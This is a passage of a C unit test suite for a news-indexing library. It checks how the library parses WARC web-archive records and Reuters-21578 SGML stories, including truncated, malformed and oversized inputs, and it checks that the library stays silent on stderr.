	ck_assert_str_eq(s.rej[1].reason,
			 "record is cut short: Content-Length is 100 but only "
			 "5 bytes follow the header");
	sink_free(&s);

	/* A length far too large in the middle: the records after it are
	 * still found. */
	snprintf(in, sizeof(in), "%s%s%s",
		 "WARC/1.0\r\nWARC-Type: resource\r\nContent-Length: 9999"
		 "\r\n\r\nabc\r\n\r\n",
		 rec1, rec1);
	sink_init(&s, "m.warc");
	ck_assert_int_eq(run_mem(&s, in, strlen(in)), NEWSIDX_OK);
	ck_assert_uint_eq(s.nrej, 1);
	ck_assert(starts_with(s.rej[0].reason, "record is cut short"));
	ck_assert_uint_eq(s.ing.skipped, 2);
	sink_free(&s);
}
END_TEST

/* The WARC record of one HTTP response with the given headers/body. */
static char *warc_response(const char *uri, const char *http, size_t *len)
{
	struct newsidx_buf b = { 0 };
	int rc = 0;

	newsidx_buf__printf(&b, &rc,
			    "WARC/1.0\r\nWARC-Type: response\r\n"
			    "WARC-Target-URI: <%s>\r\n"
			    "WARC-Date: 2024-01-02T03:04:05Z\r\n"
			    "Content-Type: application/http; msgtype=response"
			    "\r\nContent-Length: %zu\r\n\r\n%s\r\n\r\n",
			    uri, strlen(http), http);
	ck_assert_int_eq(rc, 0);
	*len = b.len;
	return b.data;
}

START_TEST(test_warc_payloads)
{
	static const char page[] = "<html><body><p>A page of plain words "
				   "about the river and the town bridge."
				   "</p></body></html>";
	char http[1024];
	char *w;
	size_t len;
	struct sink s;

	/* WARC/1.0 angle brackets around the URI; a charset */
	snprintf(http, sizeof(http),
		 "HTTP/1.1 200 OK\r\nContent-Type: text/html; "
		 "charset=\"utf-8\"\r\n\r\n%s",
		 page);
	w = warc_response("https://www.river.example/a", http, &len);
	sink_init(&s, "p.warc");
	ck_assert_int_eq(run_mem(&s, w, len), NEWSIDX_OK);
	ck_assert_uint_eq(s.nart, 1);
	ck_assert_str_eq(s.art[0].url, "https://www.river.example/a");
	ck_assert_str_eq(s.art[0].source, "river.example");
	ck_assert_str_eq(s.art[0].date, "20240102030405");
	sink_free(&s);
	free(w);

	/* a redirect and a PDF are skipped; a page with no text too */
	snprintf(http, sizeof(http),
		 "HTTP/1.1 301 Moved\r\nLocation: /b\r\nContent-Type: "
		 "text/html\r\n\r\n%s",
		 page);
	w = warc_response("https://river.example/a", http, &len);
	sink_init(&s, "p.warc");
	ck_assert_int_eq(run_mem(&s, w, len), NEWSIDX_OK);
	ck_assert_uint_eq(s.nart + s.nrej, 0);
	ck_assert_uint_eq(s.ing.skipped, 1);
	sink_free(&s);
	free(w);

	w = warc_response("https://river.example/e",
			  "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n"
			  "<html><body><nav>menu</nav></body></html>",
			  &len);
	sink_init(&s, "p.warc");
	ck_assert_int_eq(run_mem(&s, w, len), NEWSIDX_OK);
	ck_assert_uint_eq(s.nart + s.nrej, 0);
	ck_assert_uint_eq(s.ing.skipped, 1);
	sink_free(&s);
	free(w);

	/* a corrupt gzip payload, malformed chunks */
	w = warc_response("https://river.example/z",
			  "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n"
			  "Content-Encoding: gzip\r\n\r\nnot gzip at all",
			  &len);
	sink_init(&s, "p.warc");
	ck_assert_int_eq(run_mem(&s, w, len), NEWSIDX_OK);
	ck_assert_uint_eq(s.nrej, 1);
	ck_assert_str_eq(s.rej[0].where, "p.warc: offset 0 (record 1)");
	ck_assert(starts_with(s.rej[0].reason, "corrupt gzip HTTP payload"));
	sink_free(&s);
	free(w);

	w = warc_response("https://river.example/c",
			  "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n"
			  "Transfer-Encoding: chunked\r\n\r\nzz\r\nabc",
			  &len);
	sink_init(&s, "p.warc");
	ck_assert_int_eq(run_mem(&s, w, len), NEWSIDX_OK);
	ck_assert_uint_eq(s.nrej, 1);
	ck_assert_str_eq(s.rej[0].reason, "malformed chunked HTTP payload");
	sink_free(&s);
	free(w);
}
END_TEST

/* A record larger than max_document is passed by, not held. */
START_TEST(test_warc_big_record)
{
	struct newsidx_buf b = { 0 }, big = { 0 };
	char *w;
	size_t len, i;
	struct sink s;
	int rc = 0;

	newsidx_buf__puts(&big, "HTTP/1.1 200 OK\r\nContent-Type: "
				"text/html\r\n\r\n<html><body><p>",
			  &rc);
	for (i = 0; i < 5000; i++)
		newsidx_buf__puts(&big, "word ", &rc);
	newsidx_buf__puts(&big, "</p></body></html>", &rc);
	w = warc_response("https://big.example/", big.data, &len);
	newsidx_buf__append(&b, w, len, &rc);
	free(w);
	newsidx_buf__puts(&b, "WARC/1.0\r\nWARC-Type: metadata\r\n"
			      "Content-Length: 2\r\n\r\nok\r\n\r\n",
			  &rc);
	ck_assert_int_eq(rc, 0);
	sink_init(&s, "big.warc");
	s.ing.max_document = 4096;
	ck_assert_int_eq(run_mem(&s, b.data, b.len), NEWSIDX_OK);
	ck_assert_uint_eq(s.nart, 0);
	ck_assert_uint_eq(s.nrej, 1);
	ck_assert(strstr(s.rej[0].reason, "larger than the limit of 4096"));
	ck_assert_uint_eq(s.ing.skipped, 1);
	sink_free(&s);

	/* Past a record streamed through, nothing checks its length: junk
	 * there is reported, and the next record is found. */
	newsidx_buf__reset(&b);
	w = warc_response("https://big.example/", big.data, &len);
	newsidx_buf__append(&b, w, len, &rc);
	free(w);
	newsidx_buf__puts(&b, "junk\r\nWARC/1.0\r\nWARC-Type: metadata\r\n"
			      "Content-Length: 2\r\n\r\nok\r\n\r\n",
			  &rc);
	ck_assert_int_eq(rc, 0);
	sink_init(&s, "big.warc");
	s.ing.max_document = 4096;
	ck_assert_int_eq(run_mem(&s, b.data, b.len), NEWSIDX_OK);
	ck_assert_uint_eq(s.nrej, 2);
	ck_assert(starts_with(s.rej[1].reason,
			      "expected a WARC record header"));
	ck_assert_uint_eq(s.ing.skipped, 1);
	sink_free(&s);
	newsidx_buf__free(&b);
	newsidx_buf__free(&big);
}
END_TEST

/* ------------------------------------------------------------------ */
/* Reuters-21578 SGML                                                  */
/* ------------------------------------------------------------------ */

START_TEST(test_sgml)
{
	struct sink s;
	struct rec *r;

	ck_assert_int_eq(run_fixture(&s, "reuters.sgm"), NEWSIDX_OK);
	ck_assert_uint_eq(s.nrej, 0);
	ck_assert_uint_eq(s.nart, 5);
	ck_assert_uint_eq(s.ing.unprocessed, 2);
	ck_assert_uint_eq(s.ing.title_only, 1);

	r = &s.art[0];
	ck_assert_str_eq(r->id, "reuters-901");
	ck_assert_str_eq(r->title, "FARM GROUP SEES RECORD WHEAT SHIPMENTS TO "
				   "<EUROPA> PORTS");
	ck_assert_str_eq(r->date, "19870303091505");
	ck_assert_int_eq(r->has_time, 1);
	ck_assert_str_eq(r->place, "Kansas City; USA, West Germany");
	ck_assert_str_eq(r->topics, "grain, wheat");
	ck_assert_str_eq(r->authors, "Dana Reel");
	ck_assert_str_eq(r->source, "Reuters");
	ck_assert_str_eq(r->lang, "en");
	ck_assert(starts_with(r->body, "A farm group said wheat shipments\n"));
	ck_assert(strstr(r->body, "millers & feed makers"));
	ck_assert(strstr(r->body, "<Plains Grain Council>"));
	/* the sign-off and the control characters are gone */
	ck_assert(strstr(r->body, "surprise to traders.") ==
		  r->body + strlen(r->body) - strlen("surprise to traders."));

	r = &s.art[1];
	/* BRIEF: the title alone; the noisy date still read */
	ck_assert_str_eq(r->title, "TOKYO STOCKS CLOSE MIXED IN THIN TRADE");
	ck_assert_str_eq(r->body, "");
	ck_assert_str_eq(r->date, "19870327000259");
	ck_assert_str_eq(r->place, "Japan");

	r = &s.art[2];
	/* UNPROC: the table is the body, its first line the title */
	ck_assert_str_eq(r->title, "HARBOUR TIN STOCKS - APR 7");
	ck_assert(starts_with(r->body, "HARBOUR TIN STOCKS - APR 7\n"));
	ck_assert_ptr_null(r->place);

	r = &s.art[3];
	/* the stray Latin-1 byte is read as such */
	ck_assert_str_eq(r->place, "Zurich; Switzerland");
	ck_assert(strstr(r->body, "and Z\xc3\xbcrich dealers"));
	ck_assert(strstr(r->body, "change.\xc3\xbc"));

	r = &s.art[4];
	/* an UNPROC story with no text at all still counts */
	ck_assert_str_eq(r->id, "reuters-905");
	ck_assert_str_eq(r->title, "(untitled)");
	ck_assert_uint_eq(r->body_len, 0);
	sink_free(&s);
}
END_TEST

START_TEST(test_sgml_bad)
{
	struct sink s;

	ck_assert_int_eq(run_fixture(&s, "bad-reuters.sgm"), NEWSIDX_OK);
	ck_assert_uint_eq(s.nrej, 3);
	ck_assert_str_eq(s.rej[0].where, "bad-reuters.sgm:2");
	ck_assert_str_eq(s.rej[0].reason, "story 1 has no NEWID attribute");
	ck_assert_str_eq(s.rej[1].where, "bad-reuters.sgm:9");
	ck_assert_str_eq(s.rej[1].reason,
			 "story 2 is not closed by </REUTERS>");
	ck_assert_str_eq(s.rej[2].where, "bad-reuters.sgm:15");
	ck_assert_str_eq(s.rej[2].reason,
			 "story 913: unrecognised date '32-MAR-1987 "
			 "09:17:00.00'");
	ck_assert_uint_eq(s.nart, 1);
	ck_assert_str_eq(s.art[0].id, "reuters-914");
	ck_assert_str_eq(s.art[0].place, "Oslo");
	ck_assert_uint_eq(s.art[0].record, 4);
	sink_free(&s);
}
END_TEST

/* References of every kind, tags in UNPROC text, a story of bare
 * minimum. */
START_TEST(test_sgml_text)
{
	static const char in[] =
		"<REUTERS NEWID=\"7\">\n<TEXT TYPE=\"UNPROC\">&#2;\n"
		"A &#x41; &#233;t&#xE9; &#10;x&#9;y &amp;c &lt;T&gt; &quot;q"
		"&quot; &bogus; &#; &#99999999; <X>tag</X> a&\n&#3;</TEXT>\n"
		"</REUTERS>\n";
	struct sink s;

	sink_init(&s, "t.sgm");
	ck_assert_int_eq(run_mem(&s, in, strlen(in)), NEWSIDX_OK);
	ck_assert_uint_eq(s.nrej, 0);
	ck_assert_uint_eq(s.nart, 1);
	ck_assert_str_eq(s.art[0].id, "reuters-7");
	ck_assert_str_eq(s.art[0].body,
			 "A A \xc3\xa9t\xc3\xa9 \nx y &c <T> \"q\" &bogus; "
			 "&#; &#99999999;  tag  a&");
	ck_assert_uint_eq(s.ing.unprocessed, 1);
	ck_assert_str_eq(s.art[0].date, "");
	sink_free(&s);
}
END_TEST

/* Many stories in one file, gzip-compressed and cut short. */
START_TEST(test_sgml_bulk)
{
	struct newsidx_buf b = { 0 };
	unsigned char *z;
	size_t zl, i;
	struct sink s;
	int rc = 0;

	newsidx_buf__puts(&b, "<!DOCTYPE lewis SYSTEM \"lewis.dtd\">\n", &rc);
	for (i = 1; i <= 3000; i++)
		newsidx_buf__printf(
			&b, &rc,
			"<REUTERS TOPICS=\"NO\" NEWID=\"%zu\">\n"
			"<DATE>%zu-MAR-1987 10:00:00.00</DATE>\n"
			"<TEXT>&#2;\n<TITLE>STORY %zu</TITLE>\n"
			"<DATELINE>    LONDON, March 3 - </DATELINE><BODY>Text "
			"of story %zu.\n Reuter\n&#3;</BODY></TEXT>\n"
			"</REUTERS>\n",
			i, i % 28 + 1, i, i);
	ck_assert_int_eq(rc, 0);
	z = gz(b.data, b.len, &zl);

	sink_init(&s, "bulk.sgm");
	ck_assert_int_eq(run_mem(&s, z, zl), NEWSIDX_OK);
	ck_assert_uint_eq(s.nrej, 0);
	ck_assert_uint_eq(s.nart, 3000);
	ck_assert_str_eq(s.art[0].body, "Text of story 1.");
	ck_assert_str_eq(s.art[0].place, "London");
	sink_free(&s);

	/* cut: the stories wholly before the fault are kept */
	sink_init(&s, "bulk.sgm.gz");
	ck_assert_int_eq(run_mem(&s, z, zl / 2), NEWSIDX_OK);
	ck_assert_uint_gt(s.nart, 100);
	ck_assert_uint_lt(s.nart, 3000);
	ck_assert_uint_eq(s.nrej, 1);
	ck_assert(strstr(s.rej[0].reason,
			 "; the stories before it were indexed"));
	sink_free(&s);
	free(z);
	newsidx_buf__free(&b);
}
END_TEST

/* ------------------------------------------------------------------ */
/* silence                                                             */
/* ------------------------------------------------------------------ */

/* The library never prints, whatever libxml2 thinks of the input. */
START_TEST(test_silent)
{
	static const char *const ins[] = {
		"<rss><channel><item><title>a & b</title></item></channel>",
		"<?xml version=\"1.0\" encoding=\"UTF-8\"?><feed xmlns=\""
		"http://www.w3.org/2005/Atom\"><entry><title>t</title>"
		"<content type=\"xhtml\"><div xmlns=\"http://www.w3.org/1999/"
		"xhtml\"><a href=\"\xff\xfe\">x\xc3</a></div></content>"
		"</entry></feed>",
		"<?xml version=\"1.0\" encoding=\"bogus-charset\"?><rss/>",
		"<html><body><p>\xff\xfe text</p><<<>>></body>",
		"<!DOCTYPE html><html><head><meta charset=\"x-nonsense\">"
		"</head><body><p>Words enough to be an article here.</p>"
		"</body></html>",
	};
	FILE *tmp = tmpfile();
	int saved, i;
	long size;

	ck_assert_ptr_nonnull(tmp);
	fflush(stderr);
	saved = dup(2);
	ck_assert_int_ge(saved, 0);
	ck_assert_int_ge(dup2(fileno(tmp), 2), 0);
	for (i = 0; i < (int)N_ELEMS(ins); i++) {
		struct sink s;

		sink_init(&s, "quiet");
		run_mem(&s, ins[i], strlen(ins[i]));
		sink_free(&s);
	}
	fflush(stderr);
	ck_assert_int_ge(dup2(saved, 2), 0);
	close(saved);
	ck_assert_int_eq(fseek(tmp, 0, SEEK_END), 0);
	size = ftell(tmp);
	fclose(tmp);
	ck_assert_int_eq(size, 0);
}
END_TEST

/* ------------------------------------------------------------------ */
/* the suite                                                           */
/* ------------------------------------------------------------------ */

static Suite *formats_suite(void)
{
	Suite *s = suite_create("formats");
	TCase *tc;

	tc = tcase_create("feed");
	tcase_set_timeout(tc, 120);
	tcase_add_test(tc, test_rss);
	tcase_add_test(tc, test_atom);
	tcase_add_test(tc, test_rss1);
	tcase_add_test(tc, test_feed_sniff);
	tcase_add_test(tc, test_feed_10000);
	tcase_add_test(tc, test_feed_bad_xml);
	tcase_add_loop_test(tc, test_feed_entities, 0,
			    (int)N_ELEMS(entity_cases));
	tcase_add_test(tc, test_feed_not_a_feed);
	tcase_add_test(tc, test_feed_truncated_gzip);
	tcase_add_test(tc, test_feed_bad_items);
	tcase_add_test(tc, test_feed_garbage);
	tcase_add_test(tc, test_feed_stop);
	tcase_add_test(tc, test_max_article);
	tcase_add_test(tc, test_max_document);
	suite_add_tcase(s, tc);

	tc = tcase_create("html");
	tcase_set_timeout(tc, 60);
	tcase_add_test(tc, test_html_page);
	tcase_add_test(tc, test_html_jsonld);
	tcase_add_test(tc, test_html_time);
	tcase_add_test(tc, test_html_dtd_subset);
	tcase_add_test(tc, test_html_no_body);
	tcase_add_test(tc, test_html_deep);
	tcase_add_test(tc, test_html_text);
	suite_add_tcase(s, tc);

	tc = tcase_create("warc");
	tcase_add_loop_test(tc, test_warc, 0, 2);
	tcase_add_test(tc, test_warc_path);
	tcase_add_test(tc, test_warc_bad_length);
	tcase_add_test(tc, test_warc_truncated);
	tcase_add_test(tc, test_warc_malformed);
	tcase_add_test(tc, test_warc_payloads);
	tcase_add_test(tc, test_warc_big_record);
	suite_add_tcase(s, tc);

	tc = tcase_create("sgml");
	tcase_set_timeout(tc, 60);
	tcase_add_test(tc, test_sgml);
	tcase_add_test(tc, test_sgml_bad);
	tcase_add_test(tc, test_sgml_text);
	tcase_add_test(tc, test_sgml_bulk);
	suite_add_tcase(s, tc);

	tc = tcase_create("silence");
	tcase_add_test(tc, test_silent);
	suite_add_tcase(s, tc);
	return s;
}

int main(void)
{
	SRunner *sr = srunner_create(formats_suite());
	int failed;

	srunner_run_all(sr, CK_NORMAL);
	failed = srunner_ntests_failed(sr);
	srunner_free(sr);
	return failed ? EXIT_FAILURE : EXIT_SUCCESS;
}
